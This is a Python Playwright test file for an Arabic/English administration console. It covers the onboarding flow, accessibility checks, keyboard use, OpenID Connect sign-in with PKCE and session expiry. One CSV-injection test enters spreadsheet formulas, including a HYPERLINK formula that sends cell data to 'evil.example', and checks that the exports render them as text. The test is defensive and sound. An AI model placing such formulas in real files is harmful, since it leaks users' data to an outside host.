"""The console in a real browser (Debian's Chromium, headless, driven by Playwright): the
whole flow of the seeds on the local server, in Arabic and in English, with axe-core on
every screen (no serious or critical violation) and the way to add a user by keyboard only.

Run by infra/check.sh:  .venv/bin/pytest tests/browser
  LOCAL_API   the local server binary (default target/debug/local-api)
  CHROMIUM    the browser (default /usr/bin/chromium)
  AXE_JS      axe-core's axe.min.js (default infra/console-check/node_modules/axe-core/axe.min.js)
  SCREENSHOTS a directory to save the main screens in (README's pictures), if set
"""

import csv
import io
import json
import os
import re
import socket
import subprocess
import time
import urllib.request
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlparse

import pytest
from playwright.sync_api import Page, expect, sync_playwright

ROOT = Path(__file__).resolve().parents[2]
LOCAL_API = os.environ.get("LOCAL_API", str(ROOT / "target/debug/local-api"))
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
AXE_JS = Path(os.environ.get("AXE_JS", ROOT / "infra/console-check/node_modules/axe-core/axe.min.js"))
SCREENSHOTS = os.environ.get("SCREENSHOTS")

ORG = "7001234567"
MANAGER = "1012345672"  # Abdullah, the demo manager
SARA = "1023456781"  # citizen, employee of 1-123456
AHMED = "2345678904"  # resident, employee of 1-123456

# The console's strings, to find things by what a reader sees.
MESSAGES = {language: json.loads((ROOT / f"console/i18n/{language}.json").read_text(encoding="utf-8")) for language in ("ar", "en")}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class LocalServer:
    """The local server with its demo data, on a port of its own."""

    def __init__(self, environment: dict | None = None) -> None:
        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        self.process = subprocess.Popen(
            [LOCAL_API, "--demo", "--port", str(self.port)],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            env={**os.environ, **(environment or {})},
        )
        deadline = time.time() + 30
        while True:
            try:
                urllib.request.urlopen(f"{self.base}/health", timeout=1)
                break
            except OSError:
                if time.time() > deadline:
                    raise
                time.sleep(0.1)

    def messages(self) -> list:
        """What the local outbox sent, after delivering what is queued."""
        urllib.request.urlopen(urllib.request.Request(f"{self.base}/local/deliver", method="POST"), timeout=10)
        with urllib.request.urlopen(f"{self.base}/local/outbox", timeout=10) as response:
            return json.load(response)["messages"]

    def last_email_link(self, to: str) -> str:
        bodies = [m["body"] for m in self.messages() if m["channel"] == "email" and m["to"] == to]
        links = re.findall(r"http://\S+/activate#token=[\w-]+", bodies[-1])
        return links[0]

    def last_sms_code(self, to: str) -> str:
        bodies = [m["body"] for m in self.messages() if m["channel"] == "sms" and m["to"] == to]
        return re.findall(r"\b(\d{6})\b", bodies[-1])[0]

    def stop(self) -> None:
        self.process.terminate()
        self.process.wait(timeout=10)


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield launched
        launched.close()


@pytest.fixture
def server():
    running = LocalServer()
    yield running
    running.stop()


class Console:
    """One person at the console: the page, the strings of its language, and the checks run
    on every screen."""

    def __init__(self, page: Page, server: LocalServer, language: str) -> None:
        self.page = page
        self.server = server
        self.language = language
        self.m = MESSAGES[language]
        self.errors: list[str] = []
        self.checked: set[str] = set()
        # Screens wider than the viewport (the page scrolls sideways), by name.
        self.overflow: dict[str, str] = {}
        page.on("pageerror", lambda error: self.errors.append(str(error)))

    def t(self, key: str, **values) -> str:
        text = self.m[key]
        for name, value in values.items():
            text = text.replace("{" + name + "}", str(value))
        return text

    def pattern(self, key: str) -> re.Pattern:
        """A message whatever its values: `{name}` matches anything."""
        return re.compile(".*".join(re.escape(part) for part in re.split(r"\{\w+\}", self.m[key])))

    def heading(self, text: str) -> None:
        expect(self.page.locator("h1")).to_have_text(text)

    def axe(self, screen: str) -> None:
        """axe-core on the screen as it is now: no serious or critical violation."""
        self.page.add_script_tag(content=AXE_JS.read_text(encoding="utf-8"))
        result = self.page.evaluate("async () => await axe.run(document, { resultTypes: ['violations'] })")
        bad = [(v["id"], v["impact"], [n["target"] for n in v["nodes"]][:3]) for v in result["violations"] if v["impact"] in ("serious", "critical")]
        assert not bad, f"{screen} ({self.language}): {bad}"
        self.checked.add(screen)
        # Nothing wider than the viewport: the page never scrolls sideways, on a phone either.
        wide = self.page.evaluate(
            """() => {
                const width = document.documentElement.clientWidth;
                if (document.documentElement.scrollWidth <= width) return null;
                const culprits = [...document.querySelectorAll('body *')]
                    .filter((e) => { const r = e.getBoundingClientRect(); return r.right > width + 1 || r.left < -1; })
                    .slice(0, 3)
                    .map((e) => e.tagName.toLowerCase() + (e.className ? '.' + e.className : ''));
                return `${document.documentElement.scrollWidth} px in ${width}: ${culprits.join(', ')}`;
            }"""
        )
        if wide:
            self.overflow[screen] = wide
        if SCREENSHOTS:
            Path(SCREENSHOTS).mkdir(parents=True, exist_ok=True)
            width = self.page.viewport_size["width"] if self.page.viewport_size else 0
            self.page.screenshot(path=str(Path(SCREENSHOTS) / f"{self.language}-{width}-{screen}.png"), full_page=True)
            self.page.screenshot(path=str(Path(SCREENSHOTS) / f"{self.language}-{width}-{screen}-view.png"))

    def open(self) -> None:
        self.page.goto(self.server.base + "/")
        self.heading(MESSAGES["ar"]["signin.title"])
        if self.language == "en":
            self.page.get_by_role("button", name="English").click()
            self.heading(self.m["signin.title"])
        expect(self.page.locator("html")).to_have_attribute("dir", "rtl" if self.language == "ar" else "ltr")

    def settled(self) -> None:
        """The screen has been drawn (its heading replaced the placeholder)."""
        expect(self.page.locator("#top .brand")).to_be_visible()
        expect(self.page.locator("h1")).not_to_have_count(0)

    def sign_in(self, name: str) -> None:
        self.settled()
        if self.page.get_by_role("button", name=self.m["app.sign_out"]).count():
            self.page.get_by_role("button", name=self.m["app.sign_out"]).click()
        self.heading(self.m["signin.title"])
        self.page.get_by_role("button", name=re.compile(re.escape(name))).click()

    def outcome(self, text: "str | re.Pattern") -> None:
        """An action's result says `text`, where the eye is."""
        result = self.page.locator(".outcome.ok").filter(has_text=text).first
        expect(result).to_be_visible()
        self.in_view(result)

    def in_view(self, locator) -> None:
        """`locator` is inside the viewport (not drawn above or below what is on screen)."""
        expect(locator).to_be_visible()
        box = locator.bounding_box()
        height = self.page.viewport_size["height"] if self.page.viewport_size else 0
        assert box and box["y"] >= 0 and box["y"] + box["height"] <= height, f"out of view: {box} in {height} px"


def names(language: str) -> dict:
    return {
        "operator": "مشغّل المنصة" if language == "ar" else "Platform operator",
        "abdullah": "عبدالله الحربي" if language == "ar" else "Abdullah Al-Harbi",
        "sara": "سارة القحطاني" if language == "ar" else "Sara Al-Qahtani",
        "ahmed": "أحمد خان" if language == "ar" else "Ahmed Khan",
    }


@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.parametrize("language", ["ar", "en"])
def test_the_seed_flow_through_the_console(browser, server, language, width):
    page = browser.new_page(accept_downloads=True, bypass_csp=True, viewport={"width": width, "height": 844 if width < 500 else 800})
    console = Console(page, server, language)
    who = names(language)
    console.open()
    console.axe("sign-in")

    # The operator credits the organization's balance.
    console.sign_in(who["operator"])
    console.heading(console.t("operator.title"))
    console.axe("operator")
    page.get_by_label(console.t("operator.organization"), exact=True).fill(ORG)
    page.get_by_role("button", name=console.t("home.open")).click()
    page.get_by_label(console.t("operator.amount")).fill("1500.00")
    page.get_by_label(console.t("operator.reference")).fill(f"BANK-{language}-1")
    page.get_by_role("button", name=console.t("operator.credit")).click()
    console.outcome(console.pattern("operator.credited"))

    # The manager adds two users as a group: the price first, then the payment.
    console.sign_in(who["abdullah"])
    expect(page.locator("h1")).to_contain_text("Al Nukhba")
    console.axe("users")
    page.get_by_role("link", name=console.t("app.name")).click()
    console.heading(console.t("home.title"))
    console.axe("home")
    page.get_by_label(console.t("home.organization")).fill(ORG)
    page.get_by_role("button", name=console.t("home.open")).click()
    expect(page.locator("h1")).to_contain_text("Al Nukhba")
    page.get_by_role("link", name=console.t("nav.add"), exact=True).first.click()
    console.heading(console.t("add.title"))
    persons = page.locator("fieldset.person")
    persons.nth(0).get_by_label(console.t("add.id")).fill(SARA)
    persons.nth(0).get_by_label(re.compile("1-123456")).check()
    persons.nth(0).get_by_label(console.t("add.user_type")).select_option("partners_only")
    page.get_by_role("button", name=console.t("add.another")).click()
    persons.nth(1).get_by_label(console.t("add.id")).fill(AHMED)
    persons.nth(1).get_by_label(re.compile("1-123456")).check()
    page.get_by_role("button", name=console.t("add.quote")).click()
    console.in_view(page.get_by_role("heading", name=console.t("add.quote_title")))
    console.axe("add-quote")
    page.get_by_role("button", name=re.compile(re.escape(console.t("add.confirm", total="").strip()))).click()
    console.in_view(page.get_by_role("heading", name=console.t("add.done", count=2)))

    # Sara activates: the link from her email, then the code from her SMS.
    page.goto(server.last_email_link("sara@nukhba.example"))
    console.heading(console.t("activate.title"))
    assert "token" not in page.url, "the link's token leaves the address bar at once"
    console.axe("activate")
    page.get_by_role("button", name=console.t("activate.confirm")).click()
    console.outcome(console.t("activate.confirmed"))
    # In the other language and back, the page still says what was done and the way on.
    other = MESSAGES["en" if language == "ar" else "ar"]
    page.get_by_role("button", name=console.t("app.other_language")).click()
    expect(page.get_by_role("link", name=other["activate.continue"])).to_be_visible()
    page.get_by_role("button", name=other["app.other_language"]).click()
    page.get_by_role("link", name=console.t("activate.continue")).click()
    # Not signed in: the sign-in screen, then her own account, at the console's address.
    console.sign_in(who["sara"])
    console.heading(console.t("me.title"))
    assert urlparse(page.url).path == "/", page.url
    console.axe("me")
    page.get_by_label(console.t("me.sms_code")).fill(server.last_sms_code("+966551234567"))
    page.get_by_role("button", name=console.t("me.confirm")).click()
    console.outcome(console.t("me.active"))

    # The manager grants a service, and changes Sara's mobile.
    console.sign_in(who["abdullah"])
    page.get_by_role("link", name=SARA).click()
    console.heading(re.compile(who["sara"]))
    console.axe("user")
    grants = page.locator("fieldset.grants").first
    grants.locator("input[type=checkbox]:not([disabled])").first.check()
    page.get_by_role("button", name=console.t("user.save_permissions")).click()
    console.outcome(console.t("user.permissions_saved"))
    page.get_by_label(console.t("user.new_mobile")).fill("0551112233")
    page.get_by_role("button", name=console.t("user.save")).click()
    expect(page.locator("ul.pending li")).to_contain_text("+966551112233")
    console.outcome(console.t("user.saved"))

    # Sara confirms her new mobile with the code sent to it.
    console.sign_in(who["sara"])
    console.heading(console.t("me.title"))
    page.get_by_label(re.compile(re.escape("+966551112233"))).fill(server.last_sms_code("+966551112233"))
    page.get_by_role("button", name=console.t("me.confirm")).click()
    console.outcome(console.t("me.contact_confirmed"))

    # The manager renews Sara, suspends Ahmed (confirming it is final), exports the audit.
    console.sign_in(who["abdullah"])
    page.get_by_role("link", name=SARA).click()
    # The price, the year it buys and that it is not refunded, before anything is charged.
    page.get_by_role("button", name=re.compile(re.escape(console.t("user.renew_for", amount="").rstrip(" —")))).click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text(console.t("user.renew_non_refundable"))
    expect(dialog).to_contain_text(console.t("user.renew_price"))
    assert re.search(r"150|١٥٠", dialog.inner_text()), dialog.inner_text()
    console.axe("renew")
    dialog.get_by_role("button", name=re.compile(re.escape(console.t("user.renew_do", amount="").split("  ")[0].strip()[:3]))).last.click()
    console.outcome(re.sub(r"\{.*", "", console.t("user.renewed")).strip())
    # The new year is on the page at once (it was drawn again), and the result in view.
    expect(page.locator(".facts").first).to_contain_text(console.t("user.next_seat"))
    page.get_by_role("link", name=console.t("nav.users"), exact=True).click()
    expect(page.get_by_role("link", name=AHMED)).to_be_visible()
    console.axe("users-filled")
    page.get_by_role("link", name=AHMED).click()
    page.get_by_label(console.t("user.suspend_reason")).fill("left the company / ترك العمل")
    page.get_by_role("button", name=console.t("user.suspend"), exact=True).click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text(console.t("user.suspend_warning"))
    dialog.get_by_role("button", name=console.t("user.suspend_do")).click()
    expect(page.locator(".facts").first).to_contain_text(console.t("status.suspended"))
    console.outcome(console.t("user.suspended"))

    # People by name, their IDs masked beside them: whose seat, who acted.
    page.get_by_role("link", name=console.t("nav.balance"), exact=True).click()
    console.heading(console.t("ledger.title"))
    seat = page.locator("tbody tr").filter(has_text=who["sara"]).last
    expect(seat).to_contain_text(who["abdullah"])
    expect(seat).to_contain_text(SARA[-4:])
    expect(seat).not_to_contain_text(SARA)
    expect(page.locator("tbody tr").filter(has_text=f"BANK-{language}-1")).to_contain_text(who["operator"])
    console.axe("balance")
    page.get_by_role("link", name=console.t("nav.settings"), exact=True).click()
    console.heading(console.t("settings.title"))
    console.axe("settings")
    page.get_by_label(console.t("settings.self_subscription")).uncheck()
    page.get_by_role("button", name=console.t("settings.save")).click()
    console.outcome(console.t("settings.saved"))
    page.get_by_role("link", name=console.t("nav.audit"), exact=True).click()
    console.heading(console.t("audit.title"))
    expect(page.locator("table tbody tr").first).to_be_visible()
    suspension = page.locator("tbody tr").filter(has_text=console.t("action.user.suspended")).first
    expect(suspension).to_contain_text(who["abdullah"])
    expect(suspension).to_contain_text(who["ahmed"])
    expect(suspension).not_to_contain_text(AHMED)
    console.axe("audit")
    with page.expect_download() as download:
        page.get_by_role("button", name=console.t("audit.export")).click()
    console.outcome(console.t("audit.exported"))
    csv = Path(download.value.path()).read_text(encoding="utf-8-sig")
    assert "user.suspended" in csv and "permissions.changed" in csv, csv[:500]
    assert "أحمد خان" in csv and "Ahmed Khan" in csv, "names beside the IDs, in both languages"

    assert console.errors == [], console.errors
    assert console.overflow == {}, f"screens wider than {width} px: {console.overflow}"
    page.close()


def test_a_refusal_is_a_sentence_in_the_readers_language_and_links_to_its_field(browser, server):
    for language in ("ar", "en"):
        page = browser.new_page(bypass_csp=True)
        console = Console(page, server, language)
        console.open()
        console.sign_in(names(language)["abdullah"])
        page.get_by_role("link", name=console.t("nav.add"), exact=True).first.click()
        persons = page.locator("fieldset.person")
        persons.nth(0).get_by_label(console.t("add.id")).fill(SARA)
        persons.nth(0).get_by_label(re.compile("1-123456")).check()
        page.get_by_role("button", name=console.t("add.another")).click()
        persons.nth(1).get_by_label(console.t("add.id")).fill("2456789011")  # Ravi: iqama expired
        persons.nth(1).get_by_label(re.compile("1-123457")).check()
        page.get_by_role("button", name=console.t("add.quote")).click()
        alert = page.get_by_role("alert")
        expect(alert).to_contain_text(console.t("error.iqama_expired"))
        assert "iqama_expired" not in alert.inner_text()
        # The summary names the second person and links to their ID field, which is marked.
        link = alert.get_by_role("link", name=re.compile(re.escape(console.t("add.person", n=2))))
        expect(link).to_be_visible()
        field = persons.nth(1).get_by_label(console.t("add.id"))
        expect(field).to_have_attribute("aria-invalid", "true")
        expect(persons.nth(0).get_by_label(console.t("add.id"))).not_to_have_attribute("aria-invalid", "true")
        link.click()
        expect(field).to_be_focused()
        console.axe("refusal")
        page.close()


def test_adding_a_user_by_keyboard_only(browser, server):
    page = browser.new_page(bypass_csp=True)
    console = Console(page, server, "en")
    console.open()
    console.sign_in("Abdullah Al-Harbi")
    console.heading(re.compile("Users of"))
    keyboard = page.keyboard

    def tab_to(predicate, limit=60):
        for _ in range(limit):
            keyboard.press("Tab")
            if page.evaluate(predicate):
                return
        raise AssertionError(f"never reached by Tab: {predicate}")

    tab_to("() => document.activeElement?.textContent === 'Add users' && document.activeElement.tagName === 'A'")
    keyboard.press("Enter")
    console.heading("Add users")
    # The new row's ID field has the focus.
    keyboard.type(SARA)
    tab_to("() => document.activeElement?.value === '1-123456'")
    keyboard.press("Space")
    tab_to("() => document.activeElement?.name === 'user_type'")
    keyboard.press("ArrowDown")
    tab_to("() => document.activeElement?.textContent === 'See the price'")
    keyboard.press("Enter")
    expect(page.get_by_role("button", name=re.compile("Confirm and pay"))).to_be_focused()
    keyboard.press("Enter")
    expect(page.get_by_role("heading", name="1 added")).to_be_visible()
    assert page.evaluate("() => document.activeElement?.tagName") == "H2"
    page.close()


def test_the_files_the_console_downloads_are_safe_to_open_in_a_spreadsheet(browser, server):
    """CSV injection (OWASP): payment references typed into the console that a spreadsheet
    would run as formulas are, in the ledger and audit files the console downloads, text."""
    page = browser.new_page(accept_downloads=True, bypass_csp=True, viewport={"width": 390, "height": 844})
    console = Console(page, server, "en")
    who = names("en")
    console.open()
    console.sign_in(who["operator"])
    page.get_by_label(console.t("operator.organization"), exact=True).fill(ORG)
    page.get_by_role("button", name=console.t("home.open")).click()
    formulas = ['=HYPERLINK("http://evil.example/?leak="&A2,"Invoice")', "+966500000000", "-1+1", "@SUM(1,2)"]
    for n, reference in enumerate(formulas):
        page.get_by_label(console.t("operator.amount")).fill(f"1.0{n + 1}")
        page.get_by_label(console.t("operator.reference")).fill(reference)
        page.get_by_role("button", name=console.t("operator.credit")).click()
        console.outcome(re.compile(rf"1\.0{n + 1}"))

    console.sign_in(who["abdullah"])
    console.heading(re.compile("Al Nukhba"))
    downloaded = {}
    for tab, button in (("nav.balance", "ledger.export"), ("nav.audit", "audit.export")):
        page.get_by_role("link", name=console.t(tab), exact=True).click()
        with page.expect_download() as download:
            page.get_by_role("button", name=console.t(button)).click()
        rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8-sig"))))
        assert rows, tab
        for row in rows:
            risky = [cell for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
            assert not risky, f"{tab}: a cell a spreadsheet would run: {risky}"
        downloaded[tab] = rows
    references = {row["reference"] for row in downloaded["nav.balance"]}
    for reference in formulas:
        assert f"'{reference}" in references, f"{reference} exported as text: {references}"
    credits = [row for row in downloaded["nav.audit"] if row["action"] == "balance.credited"]
    assert len(credits) >= len(formulas), "each credit is in the audit file too"
    page.close()


# --- Sign-in with an OpenID Connect provider (authorization code with PKCE) ---------------

import base64
import hashlib
import hmac
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

OIDC_SECRET = "browser-test-secret-not-for-production"
OIDC_CLIENT = "console-test-client"


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def hs256(claims: dict) -> str:
    """A JWT signed as the local server's JWT check expects (HS256, its secret)."""
    header = b64url(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    payload = b64url(json.dumps(claims).encode())
    signature = hmac.new(OIDC_SECRET.encode(), f"{header}.{payload}".encode(), hashlib.sha256).digest()
    return f"{header}.{payload}.{b64url(signature)}"


class Provider:
    """A minimal identity provider for the test: discovery, an authorization endpoint that
    signs in one person at once, and a token endpoint that checks the PKCE verifier against
    the challenge it was given (RFC 7636, S256) before it issues an ID token."""

    def __init__(self, subject: str, forge_nonce: bool = False) -> None:
        self.subject = subject
        # Issue ID tokens with a nonce other than the one asked for (a token replayed from
        # another sign-in).
        self.forge_nonce = forge_nonce
        self.codes: dict[str, dict] = {}
        self.refused: list[str] = []
        provider = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def send(self, status: int, body: dict, headers: dict | None = None) -> None:
                data = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Access-Control-Allow-Origin", "*")
                for name, value in (headers or {}).items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self):
                url = urlparse(self.path)
                if url.path == "/.well-known/openid-configuration":
                    return self.send(200, {"issuer": provider.issuer, "authorization_endpoint": f"{provider.issuer}/authorize", "token_endpoint": f"{provider.issuer}/token"})
                if url.path == "/authorize":
                    query = {k: v[0] for k, v in parse_qs(url.query).items()}
                    assert query["response_type"] == "code" and query["client_id"] == OIDC_CLIENT and query["code_challenge_method"] == "S256"
                    assert len(query.get("nonce", "")) >= 16, "a nonce is sent"
                    code = b64url(os.urandom(16))
                    provider.codes[code] = query
                    target = f"{query['redirect_uri']}?{urlencode({'code': code, 'state': query['state']})}"
                    self.send_response(302)
                    self.send_header("Location", target)
                    return self.end_headers()
                self.send(404, {})

            def do_OPTIONS(self):
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "content-type")
                self.end_headers()

            def do_POST(self):
                form = {k: v[0] for k, v in parse_qs(self.rfile.read(int(self.headers["Content-Length"])).decode()).items()}
                asked = provider.codes.pop(form.get("code", ""), None)
                challenge = b64url(hashlib.sha256(form.get("code_verifier", "").encode()).digest())
                if not asked or asked["code_challenge"] != challenge or form.get("redirect_uri") != asked["redirect_uri"]:
                    provider.refused.append(form.get("code", ""))
                    return self.send(400, {"error": "invalid_grant"})
                now = int(time.time())
                nonce = "replayed" if provider.forge_nonce else asked.get("nonce")
                claims = {"sub": provider.subject, "iss": provider.issuer, "aud": OIDC_CLIENT, "iat": now, "exp": now + 3600, "nonce": nonce}
                self.send(200, {"id_token": hs256(claims), "access_token": "opaque", "token_type": "Bearer"})

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.issuer = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()


def oidc_environment(provider: Provider) -> dict:
    """The local server set to sign in with `provider` and accept its ID tokens."""
    return {
        "LOCAL_CONSOLE_OIDC_ISSUER": provider.issuer,
        "LOCAL_CONSOLE_OIDC_CLIENT_ID": OIDC_CLIENT,
        "LOCAL_JWT_SECRET": OIDC_SECRET,
        "LOCAL_JWT_ISSUER": provider.issuer,
        "LOCAL_JWT_AUDIENCE": OIDC_CLIENT,
    }


def test_signing_in_with_an_openid_connect_provider_and_pkce(browser):
    provider = Provider(MANAGER)
    server = LocalServer(oidc_environment(provider))
    try:
        # The console's own content security policy applies here (it must let the console
        # reach the provider).
        page = browser.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(f"{server.base}/#/o/{ORG}")
        expect(page.locator("h1")).to_have_text(MESSAGES["ar"]["signin.title"])
        page.get_by_role("button", name=MESSAGES["ar"]["signin.with_provider"]).click()
        # Back from the provider, signed in as the manager with the provider's ID token, at the
        # page the sign-in started from; the API accepted the token.
        expect(page.locator("h1")).to_contain_text("Al Nukhba")
        expect(page.get_by_role("link", name=MANAGER)).to_be_visible()
        assert provider.refused == [] and errors == [], (provider.refused, errors)
        assert "code=" not in page.url, "the code leaves the address bar"
        page.close()
    finally:
        server.stop()
        provider.stop()


def test_an_id_token_issued_for_another_sign_in_is_refused(browser):
    provider = Provider(MANAGER, forge_nonce=True)
    server = LocalServer(oidc_environment(provider))
    try:
        page = browser.new_page()
        page.goto(f"{server.base}/#/o/{ORG}")
        page.get_by_role("button", name=MESSAGES["ar"]["signin.with_provider"]).click()
        # Back from the provider with a token whose nonce is not this sign-in's: no session.
        page.wait_for_load_state("networkidle")
        expect(page.get_by_role("link", name=MANAGER)).to_have_count(0)
        assert page.evaluate("() => sessionStorage.getItem('console.session')") is None
        page.close()
    finally:
        server.stop()
        provider.stop()


def test_the_pkce_challenge_is_rfc_7636_s(browser, server):
    page = browser.new_page()
    page.goto(server.base + "/")
    challenge = page.evaluate("async () => (await import('/console/session.js')).challenge('dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk')")
    assert challenge == "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
    page.close()


def test_a_session_that_ends_says_so_and_returns_with_the_draft(browser, server):
    page = browser.new_page(bypass_csp=True, viewport={"width": 390, "height": 844})
    console = Console(page, server, "en")
    console.open()
    console.sign_in("Abdullah Al-Harbi")
    page.get_by_role("link", name=console.t("nav.add"), exact=True).first.click()
    console.heading(console.t("add.title"))
    persons = page.locator("fieldset.person")
    persons.nth(0).get_by_label(console.t("add.id")).fill(SARA)
    persons.nth(0).get_by_label(re.compile("1-123456")).check()
    page.get_by_role("button", name=console.t("add.another")).click()
    persons.nth(1).get_by_label(console.t("add.id")).fill(AHMED)
    page.get_by_role("button", name=console.t("add.another")).click()
    # Removing person 2 numbers the rows 1, 2 again (not 1, 3).
    persons.nth(1).get_by_role("button", name=console.t("add.remove", n=2)).click()
    expect(persons).to_have_count(2)
    expect(persons.nth(1).locator("legend").first).to_have_text(console.t("add.person", n=2))
    persons.nth(1).get_by_label(console.t("add.id")).fill(AHMED)
    # The session ends under the reader (its token no longer accepted).
    page.evaluate("() => { const s = JSON.parse(sessionStorage.getItem('console.session')); s.token = 'ended'; sessionStorage.setItem('console.session', JSON.stringify(s)); }")
    page.get_by_role("button", name=console.t("add.quote")).click()
    console.heading(console.t("signin.title"))
    expect(page.get_by_role("alert")).to_contain_text(console.t("signin.session_ended"))
    console.axe("session-ended")
    page.get_by_role("button", name=re.compile("Abdullah Al-Harbi")).click()
    # Back where the reader was, with what was typed.
    console.heading(console.t("add.title"))
    expect(page.get_by_role("status").first).to_contain_text(console.t("signin.draft_restored"))
    expect(persons).to_have_count(2)
    expect(persons.nth(0).get_by_label(console.t("add.id"))).to_have_value(SARA)
    expect(persons.nth(0).get_by_label(re.compile("1-123456"))).to_be_checked()
    expect(persons.nth(1).get_by_label(console.t("add.id"))).to_have_value(AHMED)
    # Paying resets the form for the next group.
    persons.nth(1).get_by_label(re.compile("1-123456")).check()
    persons.nth(0).get_by_label(console.t("add.user_type")).select_option("partners_only")
    page.get_by_role("button", name=console.t("add.quote")).click()
    page.get_by_role("button", name=re.compile(re.escape(console.t("add.confirm", total="").strip()))).click()
    expect(page.get_by_role("heading", name=console.t("add.done", count=2))).to_be_visible()
    expect(persons).to_have_count(1)
    expect(persons.nth(0).get_by_label(console.t("add.id"))).to_have_value("")
    assert console.errors == [], console.errors
    page.close()


def test_a_slow_answer_shows_work_under_way_and_the_old_screen_as_busy(browser):
    server = LocalServer({"LOCAL_API_DELAY_MS": "1500"})
    try:
        page = browser.new_page(bypass_csp=True)
        console = Console(page, server, "en")
        console.open()
        console.sign_in("Abdullah Al-Harbi")
        console.heading(re.compile("Users of"))
        # Navigation: the old screen is dimmed and marked busy, with a progress bar, until
        # the new one is drawn.
        page.get_by_role("link", name=console.t("nav.add"), exact=True).first.click()
        expect(page.locator("main[aria-busy=true]")).to_have_count(1, timeout=1200)
        expect(page.locator("body.loading")).to_have_count(1)
        expect(page.locator("h1")).to_contain_text("Users of")  # the old screen, dimmed, not a blank
        console.heading(console.t("add.title"))
        expect(page.locator("main[aria-busy=true]")).to_have_count(0)
        # An action: the answer's place says work is under way, then the result.
        persons = page.locator("fieldset.person")
        persons.nth(0).get_by_label(console.t("add.id")).fill(SARA)
        persons.nth(0).get_by_label(re.compile("1-123456")).check()
        page.get_by_role("button", name=console.t("add.quote")).click()
        expect(page.locator(".outcome.busy")).to_contain_text(console.t("app.working"), timeout=1200)
        expect(page.get_by_role("heading", name=console.t("add.quote_title"))).to_be_visible(timeout=5000)
        expect(page.locator(".outcome.busy")).to_have_count(0)
        assert console.errors == [], console.errors
        page.close()
    finally:
        server.stop()
